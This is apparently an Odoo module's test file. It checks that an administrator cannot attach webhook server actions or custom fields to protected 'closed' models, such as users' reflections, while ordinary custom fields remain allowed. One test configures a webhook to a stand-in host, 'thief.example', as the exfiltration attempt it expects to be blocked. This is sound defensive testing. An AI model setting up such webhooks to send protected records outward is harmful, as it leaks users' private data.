"""An administrator without program code attaches something to what is closed."""

from odoo.exceptions import ValidationError

from .common import MindsetCommon
from .probing import CLOSED


class TestAttached(MindsetCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.administrator = cls.env.ref("base.user_admin")
        cls.closed = [name for name in CLOSED if name != "mail.activity"]

    def get_model_id(self, name):
        return self.env["ir.model"]._get_id(name)

    def make_field(self, model, name="x_look", **vals):
        fields = self.env["ir.model.fields"].with_user(self.administrator)
        model_id = self.get_model_id(model)
        return fields.create({"name": name, "model_id": model_id, **vals})

    def test_no_action_and_so_no_automation_and_no_webhook(self):
        actions = self.env["ir.actions.server"].with_user(self.administrator)
        webhook = {"state": "webhook", "webhook_url": "https://thief.example"}
        harmless = actions.create(
            {
                "name": "Tell",
                "model_id": self.get_model_id("mindset.round"),
                **webhook,
            }
        )
        for name in self.closed:
            model_id = self.get_model_id(name)
            with self.subTest(name), self.assertRaises(ValidationError):
                actions.create({"name": "Tell", "model_id": model_id, **webhook})
            with self.subTest(name), self.assertRaises(ValidationError):
                harmless.model_id = model_id

    def test_no_field_leads_there(self):
        for name in self.closed:
            with self.subTest(name), self.assertRaises(ValidationError):
                self.make_field("res.users", ttype="many2one", relation=name)
            with self.subTest(name), self.assertRaises(ValidationError):
                self.make_field(name, ttype="char")

    def test_no_field_is_filled_from_the_reflection_of_whoever_writes(self):
        with self.assertRaises(ValidationError):
            self.make_field(
                "res.users",
                ttype="one2many",
                relation="mindset.reflection",
                relation_field="user_id",
            )

    def test_no_field_passes_there(self):
        vals = {"ttype": "many2one", "relation": "res.users", "store": True}
        with self.assertRaises(ValidationError):
            self.make_field("mindset.idea", related="vote_ids.user_id", **vals)

    def test_other_fields_can_be_added(self):
        self.make_field("mindset.idea", ttype="char")
        self.make_field(
            "mindset.idea", "x_name", ttype="char", related="company_id.name"
        )
